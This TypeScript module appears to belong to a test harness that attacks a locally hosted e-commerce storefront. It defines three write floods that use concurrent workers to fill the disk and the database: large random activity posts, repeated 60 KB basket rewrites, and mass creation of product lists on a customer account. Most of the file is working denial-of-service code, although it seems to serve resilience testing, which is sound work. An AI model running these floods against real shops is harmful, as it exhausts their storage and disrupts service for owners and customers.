import { randomBytes } from 'node:crypto';
import { type Client, clientAt, repeat, type StartAttack } from './attack-client.ts';
import { expect } from './trial.ts';

const BASE = '/eu/en-IE';
const ORG = 'organizations/f_ecom_vtrn_001';
const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
const JSON_TYPE = { 'content-type': 'application/json' };

const originOf = (port: number) => ({ origin: `http://127.0.0.1:${port}` });
/** Incompressible text. */
const noise = (characters: number) => randomBytes(characters).toString('base64url').slice(0, characters);

/** Adds a product to the client's bag and returns the basket id. */
async function openBasket(client: Client, port: number): Promise<string> {
  const found = (await client.get(`${BASE}/search?q=linen`)).text;
  const masterId = /\/pd\/[\w-]*?(\d{6,})/.exec(found)?.[1] ?? '';
  const tile = (await client.get(`${BASE}/resource/tile/${masterId}`)).text;
  const productId = new RegExp(`${masterId}\\d+`).exec(tile)?.[0] ?? masterId;
  const form = String(new URLSearchParams({ intent: 'add', productId, quantity: '1' }));
  const { status, text } = await client.send('POST', `${BASE}/resource/bag`, form, {
    ...FORM,
    ...originOf(port),
  });
  expect(status === 200, `a bag for the attacker: ${status}`);
  return (JSON.parse(text) as { bag: { id: string } }).bag.id;
}

const activity: StartAttack = async (port, address) => {
  const client = clientAt(address, port, 16);
  const headers = { ...originOf(port), ...JSON_TYPE, cookie: 'vitrine_consent=necessary.statistics' };
  const body = JSON.stringify(
    Array.from({ length: 27 }, () => ({ activity: 'viewPage', currentLocation: noise(1900) })),
  );
  return repeat(client, 16, () => client.send('POST', `${BASE}/resource/activity`, body, headers));
};

const rewriting: StartAttack = async (port, address) => {
  const client = clientAt(address, port, 8);
  const id = await openBasket(client, port);
  const path = `/mobify/proxy/api/checkout/shopper-baskets/v2/${ORG}/baskets/${id}?siteId=RivageEU`;
  return repeat(client, 8, () => {
    const notes = Object.fromEntries(
      Array.from({ length: 15 }, (_, index) => [`c_note${index}`, noise(3900)]),
    );
    return client.send('PATCH', path, JSON.stringify(notes), { ...originOf(port), ...JSON_TYPE });
  });
};

const filling: StartAttack = async (port, address) => {
  const client = clientAt(address, port, 8);
  const id = await openBasket(client, port);
  const basket = await client.get(
    `/mobify/proxy/api/checkout/shopper-baskets/v2/${ORG}/baskets/${id}?siteId=RivageEU`,
  );
  const { customerInfo } = JSON.parse(basket.text) as { customerInfo: { customerId: string } };
  const { customerId } = customerInfo;
  const lists = `/mobify/proxy/api/customer/shopper-customers/v1/${ORG}/customers`;
  const body = () => JSON.stringify({ type: 'custom_1', name: noise(200), description: noise(990) });
  return repeat(client, 8, () =>
    client.send('POST', `${lists}/${customerId}/product-lists?siteId=RivageEU`, body(), {
      ...originOf(port),
      ...JSON_TYPE,
    }),
  );
};

/** Attacks that write data, to fill the disk and the database. */
export const floods: Record<string, [what: string, begin: StartAttack]> = {
  activity: ['16 workers send activities, 50 KB at a time', activity],
  rewriting: ['8 workers rewrite a basket of 60 KB', rewriting],
  filling: ['8 workers add lists to an account', filling],
};
